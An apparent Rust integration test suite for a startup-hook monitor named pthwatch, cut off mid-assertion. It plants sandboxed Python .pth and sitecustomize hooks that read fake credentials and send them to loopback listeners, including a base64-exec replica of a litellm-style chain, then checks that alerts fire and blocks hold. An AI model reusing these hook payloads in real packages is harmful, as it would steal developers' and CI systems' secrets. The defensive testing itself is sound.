//! Detection and response, against the real kernel: `pthwatch run` in each mode while real
//! interpreters run real startup hooks in an isolated HOME holding fake credentials with a
//! canary, and loopback listeners count what reaches them.
//!
//! Every payload is guarded: a hook acts only in the interpreter that did not inherit
//! `PTHW_CHILD`, so no test can recurse into a fork bomb. Every wait is bounded.
use std::time::Duration;

use integration_tests::{
    Daemon, PYTHON, Sandbox, TcpSink, UdpSink, base64, can_run,
    payload::{
        READ_CREDENTIALS, assert_exfil_alert, assert_hook_blocked, exfil_alert, exfiltrate,
        preexisting_suspect_hooks, relevant, send_and_record, spawning_pth_line, wait_marker,
    },
    real, run_bounded, wait_until,
};

const MODES: [&str; 3] = ["alert", "block", "kill"];

/// The litellm chain: `.pth` -> `python -c exec(b64)` -> reads keys -> `curl` POST.
fn litellm_replica(mode: &str) {
    let sb = Sandbox::new(&format!("litellm-{mode}"));
    let sink = TcpSink::start();
    let child = format!(
        "{READ_CREDENTIALS}
import subprocess
staged = os.path.join(home, 'tpcp.bin')
with open(staged, 'wb') as f:
    f.write(blob)
r = subprocess.run(['curl', '-s', '-m', '10', '-X', 'POST', '--data-binary', '@' + staged,
                    'http://127.0.0.1:{}/upload'], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
with open(os.path.join(home, 'payload.done'), 'w') as f:
    f.write(str(r.returncode))
",
        sink.port
    );
    let pth = sb.pth("litellm_init.pth", &spawning_pth_line(&child));
    let daemon = Daemon::start(mode, &[]);
    let (code, out) = sb.python(&["-c", "print('main program ran')"]);
    assert_eq!(code, 0, "the user's program itself must run: {out}");
    assert!(out.contains("main program ran"));
    let done = wait_marker(&sb, Duration::from_secs(20));
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    match mode {
        "alert" => {
            assert!(
                sink.received().contains(&sb.canary),
                "alert mode does not interfere; the listener got: {:?}",
                sink.received()
            );
            assert_exfil_alert(&alert, &sb, &pth, sink.port, "alert");
        }
        "block" => {
            assert_eq!(sink.bytes(), 0, "blocked, yet the listener got bytes");
            assert_ne!(done.as_deref(), Some("0"), "curl must fail when denied");
            assert_exfil_alert(&alert, &sb, &pth, sink.port, "blocked");
        }
        _ => {
            assert_eq!(sink.bytes(), 0, "killed, yet the listener got bytes");
            assert_ne!(done.as_deref(), Some("0"), "curl must not complete");
            assert_exfil_alert(&alert, &sb, &pth, sink.port, "killed");
        }
    }
    assert!(!sink.received().contains(&sb.canary) || mode == "alert");
}

#[test]
fn litellm_replica_alert_mode_reports_and_lets_it_through() {
    if can_run() {
        litellm_replica("alert");
    }
}

#[test]
fn litellm_replica_block_mode_denies_the_upload() {
    if can_run() {
        litellm_replica("block");
    }
}

#[test]
fn litellm_replica_kill_mode_kills_before_a_byte_leaves() {
    if can_run() {
        litellm_replica("kill");
    }
}

/// The hook does everything itself, in the interpreter, with no child; the main program
/// that follows reads the same credentials and connects, and must not be blamed.
#[test]
fn in_process_hook_is_blocked_and_the_main_program_is_not_blamed() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("inproc");
    let evil = TcpSink::start();
    let legit = TcpSink::start();
    let code = format!(
        "{READ_CREDENTIALS}
import socket
s = socket.create_connection(('127.0.0.1', {}), timeout=5)
s.sendall(blob)
s.close()
",
        evil.port
    );
    let pth = sb.pth(
        "zz_telemetry.pth",
        &format!(
            "import os, base64; os.environ.get('PTHW_CHILD') or exec(base64.b64decode('{}'))\n",
            base64(code.as_bytes())
        ),
    );
    let main = format!(
        "{READ_CREDENTIALS}
import socket
s = socket.create_connection(('127.0.0.1', {}), timeout=5)
s.sendall(blob)
s.close()
print('main sent', len(blob))
",
        legit.port
    );
    let daemon = Daemon::start("block", &[]);
    let (status, out) = sb.python(&["-c", &main]);
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    assert_eq!(status, 0, "the main program must run to the end: {out}");
    assert_eq!(evil.bytes(), 0, "the hook's upload got through");
    assert!(
        wait_until(Duration::from_secs(5), || legit
            .received()
            .contains(&sb.canary)),
        "the main program's own upload must not be blocked: {out}"
    );
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_exfil_alert(&alert, &sb, &pth, evil.port, "blocked");
    let about_main: Vec<_> = alerts
        .iter()
        .filter(|a| a["destination"]["port"] == legit.port)
        .collect();
    assert!(
        about_main.is_empty(),
        "the main program was blamed: {about_main:#?}"
    );
}

/// UDP with no connect: `sendto` straight to the listener.
#[test]
fn udp_sendto_without_connect_is_blocked() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("udp");
    let sink = UdpSink::start();
    let child = format!(
        "{READ_CREDENTIALS}
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(blob, ('127.0.0.1', {}))
    r = 'sent'
except OSError as e:
    r = 'error %d' % e.errno
with open(os.path.join(home, 'payload.done'), 'w') as f:
    f.write(r)
",
        sink.port
    );
    let pth = sb.pth("dns_helper.pth", &spawning_pth_line(&child));
    let daemon = Daemon::start("block", &[]);
    let (code, out) = sb.python(&["-c", "pass"]);
    assert_eq!(code, 0, "{out}");
    let done = wait_marker(&sb, Duration::from_secs(20));
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    assert_eq!(
        done.as_deref(),
        Some("error 1"),
        "sendto must fail with EPERM"
    );
    assert_eq!(sink.bytes(), 0, "a datagram got through");
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_exfil_alert(&alert, &sb, &pth, sink.port, "blocked");
    assert_eq!(alert["destination"]["protocol"], "udp", "{alert:#}");
}

/// Connect while still clean, read the credentials, then send on the socket already held:
/// the connect was allowed, so the packets must be dropped on the way out, and the
/// connection closed, so that TCP's retransmissions cannot deliver them once the daemon
/// has stopped either.
#[test]
fn a_socket_connected_before_the_read_carries_nothing_out() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("connfirst");
    let sink = TcpSink::start();
    let child = format!(
        "import socket, os
s = socket.create_connection(('127.0.0.1', {}), timeout=5)
{READ_CREDENTIALS}
try:
    s.sendall(blob)
    s.shutdown(socket.SHUT_WR)
    r = 'sent'
except OSError as e:
    r = 'error %d' % e.errno
with open(os.path.join(home, 'payload.done'), 'w') as f:
    f.write(r)
",
        sink.port
    );
    let pth = sb.pth("metrics_boot.pth", &spawning_pth_line(&child));
    let daemon = Daemon::start("block", &[]);
    let (code, out) = sb.python(&["-c", "pass"]);
    assert_eq!(code, 0, "{out}");
    let done = wait_marker(&sb, Duration::from_secs(20));
    assert!(done.is_some(), "the payload did not finish");
    let alert = exfil_alert(&daemon);
    // Give TCP time to retransmit what was dropped; none of it may arrive.
    std::thread::sleep(Duration::from_secs(2));
    assert!(
        !sink.received().contains(&sb.canary),
        "the held socket carried the credentials out"
    );
    let alerts = daemon.stop();
    // The payload has exited; had its connection been left to TCP, the kernel would go
    // on retransmitting the unsent credentials (backing off from 200 ms: about 3, 6 and
    // 12 s after the first send), and with the egress program gone they would arrive.
    std::thread::sleep(Duration::from_secs(8));
    assert!(
        !sink.received().contains(&sb.canary),
        "the held connection delivered the credentials after pthwatch stopped"
    );
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_eq!(alert["action"], "blocked", "{alert:#}");
    assert_eq!(
        alert["startup_hook"]["path"].as_str(),
        Some(&*real(&pth).to_string_lossy())
    );
}

/// A hook that serves the credentials instead of sending them: it binds 127.0.0.1:0,
/// listens, and writes to whoever connects (here the test itself, which pthwatch does not
/// track). No connect or sendmsg hook sees an accepted connection; the kernel must still
/// keep the data in, and the alert names the hook and the peer.
fn listening_hook(mode: &str) {
    let sb = Sandbox::new(&format!("listen-{mode}"));
    let child = format!(
        "{READ_CREDENTIALS}
import socket
srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
srv.bind(('127.0.0.1', 0))
srv.listen(1)
srv.settimeout(20)
tmp = os.path.join(home, 'listen.tmp')
with open(tmp, 'w') as f:
    f.write(str(srv.getsockname()[1]))
os.rename(tmp, os.path.join(home, 'listen.port'))
try:
    c, _ = srv.accept()
    c.sendall(blob)
    c.shutdown(socket.SHUT_WR)
    r = 'sent'
except OSError as e:
    r = 'error %d' % e.errno
with open(os.path.join(home, 'payload.done'), 'w') as f:
    f.write(r)
"
    );
    let pth = sb.pth("telemetry_server.pth", &spawning_pth_line(&child));
    let daemon = Daemon::start(mode, &[]);
    let (code, out) = sb.python(&["-c", "pass"]);
    assert_eq!(code, 0, "{out}");
    let port_file = sb.home.join("listen.port");
    assert!(
        wait_until(Duration::from_secs(20), || port_file.exists()),
        "the hook never listened"
    );
    let port: u16 = std::fs::read_to_string(&port_file)
        .expect("port file")
        .trim()
        .parse()
        .expect("a port number");
    let (client_port, got) = read_from(port, Duration::from_secs(8));
    let done = wait_marker(&sb, Duration::from_secs(20));
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    let received = String::from_utf8_lossy(&got);
    // What reached the client first: without the kernel's part the credentials leave, and
    // that is the failure to see.
    match mode {
        "alert" => assert!(
            received.contains(&sb.canary),
            "alert mode does not interfere; the client got {} bytes, payload: {done:?}",
            got.len()
        ),
        "block" => assert!(got.is_empty(), "blocked, yet the client got: {received:?}"),
        _ => {
            assert!(got.is_empty(), "killed, yet the client got: {received:?}");
            assert_ne!(
                done.as_deref(),
                Some("sent"),
                "the hook must not live to send"
            );
        }
    }
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    let action = match mode {
        "alert" => "alert",
        "block" => "blocked",
        _ => "killed",
    };
    assert_exfil_alert(&alert, &sb, &pth, client_port, action);
}

/// Connects to 127.0.0.1:`port` and reads until end of stream, an error or `limit`: the
/// client's own port and what it got.
fn read_from(port: u16, limit: Duration) -> (u16, Vec<u8>) {
    use std::{io::Read, net::TcpStream, time::Instant};
    let addr = std::net::SocketAddr::from(([127, 0, 0, 1], port));
    let mut s = TcpStream::connect_timeout(&addr, Duration::from_secs(5)).expect("connect");
    let client_port = s.local_addr().expect("local address").port();
    let deadline = Instant::now() + limit;
    let mut got = Vec::new();
    let mut buf = [0u8; 4096];
    while let Some(left) = deadline.checked_duration_since(Instant::now()) {
        s.set_read_timeout(Some(left.max(Duration::from_millis(1))))
            .expect("read timeout");
        match s.read(&mut buf) {
            Ok(0) | Err(_) => break,
            Ok(n) => got.extend_from_slice(&buf[..n]),
        }
    }
    (client_port, got)
}

#[test]
fn a_hook_serving_credentials_on_a_listening_socket_alert_mode_reports_it() {
    if can_run() {
        listening_hook("alert");
    }
}

#[test]
fn a_hook_serving_credentials_on_a_listening_socket_block_mode_keeps_them_in() {
    if can_run() {
        listening_hook("block");
    }
}

#[test]
fn a_hook_serving_credentials_on_a_listening_socket_kill_mode_kills_it() {
    if can_run() {
        listening_hook("kill");
    }
}

/// The UDP form of a server: bind, wait for a datagram, reply to its sender with an
/// explicit destination. A send naming its destination is decided like any other.
#[test]
fn a_hook_replying_from_a_bound_udp_socket_is_blocked() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("udpserve");
    let child = format!(
        "{READ_CREDENTIALS}
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.bind(('127.0.0.1', 0))
s.settimeout(20)
tmp = os.path.join(home, 'listen.tmp')
with open(tmp, 'w') as f:
    f.write(str(s.getsockname()[1]))
os.rename(tmp, os.path.join(home, 'listen.port'))
try:
    _, peer = s.recvfrom(64)
    s.sendto(blob, peer)
    r = 'sent'
except OSError as e:
    r = 'error %d' % e.errno
with open(os.path.join(home, 'payload.done'), 'w') as f:
    f.write(r)
"
    );
    let pth = sb.pth("udp_status.pth", &spawning_pth_line(&child));
    let daemon = Daemon::start("block", &[]);
    let (code, out) = sb.python(&["-c", "pass"]);
    assert_eq!(code, 0, "{out}");
    let port_file = sb.home.join("listen.port");
    assert!(
        wait_until(Duration::from_secs(20), || port_file.exists()),
        "the hook never bound"
    );
    let port: u16 = std::fs::read_to_string(&port_file)
        .expect("port file")
        .trim()
        .parse()
        .expect("a port number");
    let client = std::net::UdpSocket::bind("127.0.0.1:0").expect("bind");
    let client_port = client.local_addr().expect("local address").port();
    client
        .set_read_timeout(Some(Duration::from_secs(5)))
        .expect("read timeout");
    client.send_to(b"ping", ("127.0.0.1", port)).expect("send");
    let mut buf = [0u8; 4096];
    let got = client.recv(&mut buf).unwrap_or(0);
    let done = wait_marker(&sb, Duration::from_secs(20));
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    assert_eq!(got, 0, "the reply got through");
    assert_eq!(
        done.as_deref(),
        Some("error 1"),
        "sendto must fail with EPERM"
    );
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_exfil_alert(&alert, &sb, &pth, client_port, "blocked");
    assert_eq!(alert["destination"]["protocol"], "udp", "{alert:#}");
}

// ---- benign twins: legitimate tools that look alike must raise nothing, in every mode ----

/// Runs `check` against a fresh daemon in each mode; no alert about the sandbox may appear.
fn in_every_mode(mut check: impl FnMut(&str)) {
    let host_hooks = preexisting_suspect_hooks();
    for mode in MODES {
        let daemon = Daemon::start(mode, &[]);
        check(mode);
        // Rule 2 waits for a quiet lineage before it reports; give it the time.
        std::thread::sleep(Duration::from_millis(3500));
        let alerts = daemon.stop();
        let mine = relevant(&alerts, &host_hooks);
        assert!(mine.is_empty(), "mode {mode}: false alarm(s): {mine:#?}");
    }
}

/// Python that reads `~/.aws/credentials` and POSTs it with urllib, as the AWS CLI would.
fn aws_cli_like(port: u16) -> String {
    format!(
        "import os, urllib.request
with open(os.path.expanduser('~/.aws/credentials'), 'rb') as f:
    body = f.read()
req = urllib.request.Request('http://127.0.0.1:{port}/sts', data=body, method='POST')
with urllib.request.urlopen(req, timeout=10) as r:
    print('status', r.status)
"
    )
}

#[test]
fn venv_with_setuptools_virtualenv_and_editable_hooks_raises_nothing() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("venv");
    let venv = sb.root.join("venv");
    let (code, out) = run_bounded(
        sb.command(PYTHON)
            .args(["-m", "venv", "--without-pip"])
            .arg(&venv),
        Duration::from_secs(60),
    );
    assert_eq!(code, 0, "creating the venv: {out}");
    let site = venv.join("lib/python3.11/site-packages");
    let put = |rel: &str, content: &str| {
        let p = site.join(rel);
        std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
        std::fs::write(p, content).expect("write");
    };
    // setuptools' hook, exactly as setuptools writes it, and the module it imports.
    put(
        "distutils-precedence.pth",
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; enabled and __import__('_distutils_hack').add_shim(); \n",
    );
    put("_distutils_hack/__init__.py", "def add_shim():\n    pass\n");
    put(
        "setuptools-69.0.0.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: setuptools\nVersion: 69.0.0\n",
    );
    put(
        "setuptools-69.0.0.dist-info/RECORD",
        "distutils-precedence.pth,,\n_distutils_hack/__init__.py,,\nsetuptools-69.0.0.dist-info/METADATA,,\nsetuptools-69.0.0.dist-info/RECORD,,\n",
    );
    // virtualenv's hook.
    put("_virtualenv.pth", "import _virtualenv\n");
    put(
        "_virtualenv.py",
        "\"\"\"Patches distutils for virtualenv.\"\"\"\nimport sys\n",
    );
    // An editable install of the tool itself (`pip install -e .`).
    put(
        "__editable___awstool_1_0_finder.pth",
        "import __editable___awstool_1_0_finder; __editable___awstool_1_0_finder.install()\n",
    );
    put(
        "__editable___awstool_1_0_finder.py",
        "import sys\nMAPPING = {}\ndef install():\n    pass\n",
    );
    put(
        "awstool-1.0.dist-info/METADATA",
        "Metadata-Version: 2.1\nName: awstool\nVersion: 1.0\n",
    );
    put(
        "awstool-1.0.dist-info/direct_url.json",
        r#"{"url": "file:///src/awstool", "dir_info": {"editable": true}}"#,
    );
    put(
        "awstool-1.0.dist-info/RECORD",
        "__editable___awstool_1_0_finder.pth,,\n__editable___awstool_1_0_finder.py,,\nawstool-1.0.dist-info/METADATA,,\nawstool-1.0.dist-info/direct_url.json,,\nawstool-1.0.dist-info/RECORD,,\n",
    );
    let python = venv.join("bin/python");
    in_every_mode(|mode| {
        let sink = TcpSink::start();
        let (code, out) = run_bounded(
            sb.command(&python).args(["-c", &aws_cli_like(sink.port)]),
            Duration::from_secs(60),
        );
        assert_eq!(code, 0, "mode {mode}: the tool failed: {out}");
        assert!(out.contains("status 200"), "mode {mode}: {out}");
        assert!(
            wait_until(Duration::from_secs(5), || sink
                .received()
                .contains(&sb.canary)),
            "mode {mode}: the tool's request did not arrive"
        );
    });
}

#[test]
fn coverage_style_hook_with_python_children_raises_nothing() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("coverage");
    // coverage's own subprocess hook, byte for byte, and a stand-in for the package.
    sb.pth(
        "a1_coverage.pth",
        "import sys; exec('import os\\n\\nif os.getenv(\"COVERAGE_PROCESS_START\") or os.getenv(\"COVERAGE_PROCESS_CONFIG\"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n  coverage.process_startup(slug=\"pth\")')\n",
    );
    sb.write(
        ".local/lib/python3.11/site-packages/coverage/__init__.py",
        "import os\ndef process_startup(slug=None):\n    open(os.environ['COVERAGE_PROCESS_START']).close()\n",
    );
    let rc = sb.write(".coveragerc", "[run]\nparallel = True\n");
    in_every_mode(|mode| {
        let sink = TcpSink::start();
        // A test suite: the main program starts `sys.executable -c` children, each of which
        // runs the coverage hook, reads credentials and talks to a local test server.
        let suite = format!(
            "import subprocess, sys
child = {:?}
for _ in range(3):
    subprocess.run([sys.executable, '-c', child], check=True, timeout=30)
print('suite passed')
",
            aws_cli_like(sink.port)
        );
        let (code, out) = run_bounded(
            sb.command(PYTHON)
                .env("COVERAGE_PROCESS_START", &rc)
                .args(["-c", &suite]),
            Duration::from_secs(90),
        );
        assert_eq!(code, 0, "mode {mode}: {out}");
        assert!(out.contains("suite passed"), "mode {mode}: {out}");
        assert_eq!(
            sink.received().matches(&sb.canary).count(),
            3,
            "mode {mode}: every child's request must arrive"
        );
    });
}

#[test]
fn twine_like_upload_of_pypirc_token_raises_nothing() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("twine");
    // A path-only .pth, as most packages ship.
    sb.pth(
        "vendored.pth",
        &format!("{}\n", sb.home.join("vendor").display()),
    );
    let dist = sb.write("dist/pkg-1.0.tar.gz", "not really a tarball\n");
    in_every_mode(|mode| {
        let sink = TcpSink::start();
        let upload = format!(
            "import configparser, os, socket
cfg = configparser.ConfigParser()
cfg.read(os.path.expanduser('~/.pypirc'))
token = cfg['pypi']['password']
with open({dist:?}, 'rb') as f:
    body = f.read()
s = socket.create_connection(('127.0.0.1', {port}), timeout=10)
s.sendall(b'POST /legacy/ HTTP/1.1\\r\\nAuthorization: ' + token.encode() + b'\\r\\nContent-Length: %d\\r\\n\\r\\n' % len(body) + body)
print(s.recv(100).split(b' ')[1].decode())
",
            dist = dist.display().to_string(),
            port = sink.port
        );
        let (code, out) = sb.python(&["-c", &upload]);
        assert_eq!(code, 0, "mode {mode}: {out}");
        assert!(out.contains("200"), "mode {mode}: {out}");
        assert!(
            wait_until(Duration::from_secs(5), || sink
                .received()
                .contains(&sb.canary)),
            "mode {mode}: the upload did not arrive"
        );
    });
}

// ---- per-rule modes ----

/// `--mode alert` with rule 1 overridden to block: the kernel blocks the replica.
#[test]
fn a_per_rule_mode_overrides_the_global_mode() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("rulemode");
    let sink = TcpSink::start();
    let child = exfiltrate(sink.port);
    let pth = sb.pth("rm_init.pth", &spawning_pth_line(&child));
    let daemon = Daemon::start(
        "alert",
        &["--rule-mode", "hook_credential_exfiltration=block"],
    );
    let (code, out) = sb.python(&["-c", "pass"]);
    assert_eq!(code, 0, "{out}");
    assert_hook_blocked(
        daemon,
        &sb,
        &pth,
        &sink,
        Duration::from_secs(20),
        "connect must fail with EPERM",
    );
}

/// The strict policy: an unknown hook gets no network at all, credentials or not.
#[test]
fn unknown_hooks_can_be_denied_the_network_outright() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("quarantine");
    let sink = TcpSink::start();
    // Beacons home without touching any credential.
    let child = format!(
        "import os, socket, time
time.sleep(0.5)
try:
    s = socket.create_connection(('127.0.0.1', {}), timeout=5)
    s.sendall(b'hello from ' + os.uname().nodename.encode())
    r = 'sent'
except OSError as e:
    r = 'error %d' % e.errno
with open(os.path.join(os.path.expanduser('~'), 'payload.done'), 'w') as f:
    f.write(r)
",
        sink.port
    );
    let pth = sb.pth("beacon.pth", &spawning_pth_line(&child));
    let daemon = Daemon::start("alert", &["--rule-mode", "unknown_startup_hook=block"]);
    let (code, out) = sb.python(&["-c", "pass"]);
    assert_eq!(code, 0, "{out}");
    let done = wait_marker(&sb, Duration::from_secs(20));
    let pth_path = real(&pth).to_string_lossy().into_owned();
    let alert = daemon.wait_alert(Duration::from_secs(10), |a| {
        a["rule"] == "unknown_startup_hook" && a["startup_hook"]["path"] == *pth_path
    });
    let alerts = daemon.stop();
    assert_eq!(
        done.as_deref(),
        Some("error 1"),
        "the beacon must be denied"
    );
    assert_eq!(sink.bytes(), 0);
    let alert = alert.unwrap_or_else(|| panic!("no unknown-hook alert in {alerts:#?}"));
    assert_eq!(alert["action"], "blocked", "{alert:#}");
    assert!(
        alerts
            .iter()
            .all(|a| a["rule"] != "hook_credential_exfiltration"),
        "nothing was read, so nothing was exfiltrated: {alerts:#?}"
    );
}

// ---- module hooks: usercustomize and sitecustomize ----

/// `code` as a module hook at `path` (run in the interpreter during start-up), in block
/// mode: zero bytes, and the alert names the module and its kind.
fn module_hook(name: &str, kind: &str, pythonpath: bool) {
    let sb = Sandbox::new(name);
    let sink = TcpSink::start();
    let dir = if pythonpath {
        sb.home.join("pp")
    } else {
        sb.site.clone()
    };
    std::fs::create_dir_all(&dir).expect("mkdir");
    let path = dir.join(format!("{kind}.py"));
    std::fs::write(
        &path,
        format!(
            "import os
if not os.environ.get('PTHW_CHILD'):
{}",
            indent(&exfiltrate(sink.port))
        ),
    )
    .expect("write module hook");
    let daemon = Daemon::start("block", &[]);
    let mut cmd = sb.command(PYTHON);
    if pythonpath {
        cmd.env("PYTHONPATH", &dir);
    }
    let (code, out) = run_bounded(cmd.args(["-c", "pass"]), Duration::from_secs(60));
    assert_eq!(code, 0, "{out}");
    let done = wait_marker(&sb, Duration::from_secs(10));
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    assert_eq!(
        done.as_deref(),
        Some("error 1"),
        "{kind}: the send got through"
    );
    assert_eq!(sink.bytes(), 0);
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert_eq!(alert["startup_hook"]["kind"], kind, "{alert:#}");
    assert_eq!(
        alert["startup_hook"]["path"].as_str(),
        Some(&*real(&path).to_string_lossy()),
        "{alert:#}"
    );
}

fn indent(code: &str) -> String {
    code.lines().map(|l| format!("    {l}\n")).collect()
}

#[test]
fn a_usercustomize_hook_is_caught() {
    if can_run() {
        module_hook("usercustomize", "usercustomize", false);
    }
}

#[test]
fn a_sitecustomize_hook_on_pythonpath_is_caught() {
    if can_run() {
        module_hook("sitecustomize", "sitecustomize", true);
    }
}

/// Secrets handed to a service in its environment: the hook's child reads another
/// process's `/proc/<pid>/environ` (a long-running job holding a token), then sends it.
#[test]
fn reading_another_process_environment_counts_as_a_credential_read() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("environ");
    let sink = TcpSink::start();
    // A job with a token in its environment, alive for the length of the test.
    let mut job = sb
        .command("sleep")
        .arg("60")
        .env("DEPLOY_TOKEN", format!("tok-{}", sb.canary))
        .spawn()
        .expect("start the job");
    let child = format!(
        "import os
home = os.path.expanduser('~')
with open('/proc/{pid}/environ', 'rb') as f:
    blob = f.read()
{send}",
        pid = job.id(),
        send = send_and_record(sink.port)
    );
    sb.pth("env_probe.pth", &spawning_pth_line(&child));
    let daemon = Daemon::start("block", &[]);
    let (code, out) = sb.python(&["-c", "pass"]);
    assert_eq!(code, 0, "{out}");
    let done = wait_marker(&sb, Duration::from_secs(20));
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    let _ = job.kill();
    let _ = job.wait();
    assert_eq!(
        done.as_deref(),
        Some("error 1"),
        "the upload must be denied"
    );
    assert!(
        !sink.received().contains(&sb.canary),
        "the token got out: {:?}",
        sink.received()
    );
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    let environ = format!("/proc/{}/environ", job.id());
    assert!(
        alert["credentials"]
            .as_array()
            .is_some_and(|c| c.iter().any(|p| p == environ.as_str())),
        "the alert names the environment read: {alert:#}"
    );
}

/// The cloud's instance metadata service serves the machine's credentials: a hook asking
/// it is reading them. In a network namespace of the test's own, 169.254.169.254 is a
/// loopback listener standing in for IMDS. The hook's child is denied the request (block);
/// the main program asking the same endpoint (what the AWS SDKs do) is not.
#[test]
fn a_hook_asking_the_instance_metadata_service_is_denied_and_the_main_program_is_not() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("imds");
    let child = "import os, socket
home = os.path.expanduser('~')
try:
    s = socket.create_connection(('169.254.169.254', 80), timeout=5)
    s.sendall(b'GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\\r\\n\\r\\n')
    r = 'sent'
except OSError as e:
    r = 'error %d' % e.errno
with open(os.path.join(home, 'payload.done'), 'w') as f:
    f.write(r)
";
    sb.pth("cloud_init_helper.pth", &spawning_pth_line(child));
    // The stand-in IMDS: answers each connection with a fake credential document.
    let server = sb.script(
        "imds.py",
        "import socket, sys
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('169.254.169.254', 80))
s.listen(8)
s.settimeout(30)
open(sys.argv[1], 'w').close()
while True:
    try:
        c, peer = s.accept()
    except OSError:
        break
    with open(sys.argv[1], 'a') as f:
        f.write('hit\\n')
    c.sendall(b'HTTP/1.0 200 OK\\r\\n\\r\\n{\"AccessKeyId\": \"ASIAFAKE\"}')
    c.close()
",
    );
    let main = "import socket
s = socket.create_connection(('169.254.169.254', 80), timeout=5)
s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
print('main got', s.recv(200).decode())
";
    let hits = sb.home.join("imds.hits");
    let script = format!(
        "set -e
ip link set lo up
ip addr add 169.254.169.254/32 dev lo
{PYTHON} {server} {hits} &
srv=$!
i=0; while [ ! -e {hits} ] && [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done
{PYTHON} -c \"$MAIN\"
i=0; while [ ! -s {home}/payload.done ] && [ $i -lt 300 ]; do sleep 0.05; i=$((i+1)); done
kill $srv
",
        server = server.display(),
        hits = hits.display(),
        home = sb.home.display(),
    );
    let daemon = Daemon::start("block", &[]);
    let (code, out) = run_bounded(
        sb.command("unshare")
            .args(["--net", "sh", "-c", &script])
            .env("PATH", "/usr/local/bin:/usr/bin:/bin:/usr/sbin:/sbin")
            .env("MAIN", main),
        Duration::from_secs(60),
    );
    let done = wait_marker(&sb, Duration::from_secs(20));
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("main got HTTP/1.0 200 OK"),
        "the main program reaches the metadata service: {out}"
    );
    assert_eq!(
        done.as_deref(),
        Some("error 1"),
        "the hook's request is denied: {out}"
    );
    let hits = std::fs::read_to_string(&hits).unwrap_or_default();
    assert_eq!(
        hits.lines().count(),
        1,
        "only the main program's request arrives"
    );
    let alert = alert.unwrap_or_else(|| panic!("no alert in {alerts:#?}"));
    assert_eq!(alert["action"], "blocked", "{alert:#}");
    assert_eq!(
        alert["destination"]["address"], "169.254.169.254",
        "{alert:#}"
    );
    assert!(
        alert["credentials"].as_array().is_some_and(|c| c
            .iter()
            .any(|p| p.as_str().is_some_and(|p| p.contains("instance metadata")))),
        "the alert names the metadata service as the credential: {alert:#}"
    );
}

/// Secrets in the interpreter's environment (a CI job's token) are read from `os.environ`,
/// in memory, where no sensor sees a read: the hook has them from its first instruction.
/// Its upload is denied; the main program, sending the same token to its own service (a
/// release upload), is not.
#[test]
fn a_hook_sending_environment_secrets_is_denied_and_the_main_program_is_not() {
    if !can_run() {
        return;
    }
    let sb = Sandbox::new("envsecret");
    let evil = TcpSink::start();
    let legit = TcpSink::start();
    let token = format!("ghp_{}", sb.canary);
    let child = format!(
        "import os
home = os.path.expanduser('~')
blob = '\\n'.join('%s=%s' % kv for kv in os.environ.items()).encode()
{send}",
        send = send_and_record(evil.port)
    );
    sb.pth("ci_env_helper.pth", &spawning_pth_line(&child));
    let main = format!(
        "import os, socket
s = socket.create_connection(('127.0.0.1', {}), timeout=5)
s.sendall(os.environ['GITHUB_TOKEN'].encode())
s.close()
print('main sent')
",
        legit.port
    );
    let daemon = Daemon::start("block", &[]);
    let (code, out) = run_bounded(
        sb.command(PYTHON)
            .args(["-c", &main])
            .env("GITHUB_TOKEN", &token)
            .env("CI", "true"),
        Duration::from_secs(60),
    );
    let done = wait_marker(&sb, Duration::from_secs(20));
    let alert = exfil_alert(&daemon);
    let alerts = daemon.stop();
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("main sent"), "{out}");
    assert!(
        wait_until(Duration::from_secs(5), || legit.received().contains(&token)),
        "the main program's own upload must go through"
    );
    assert_eq!(
        done.as_deref(),
        Some("error 1"),
        "the hook's upload is denied"
    );
    assert!(!evil.received().contains(&token), "the token got out");
    let alert = alert.unwrap_or_else(|| panic!("no exfiltration alert in {alerts:#?}"));
    assert!(
        alert["credentials"].as_array().is_some_and(|c| c
            .iter()
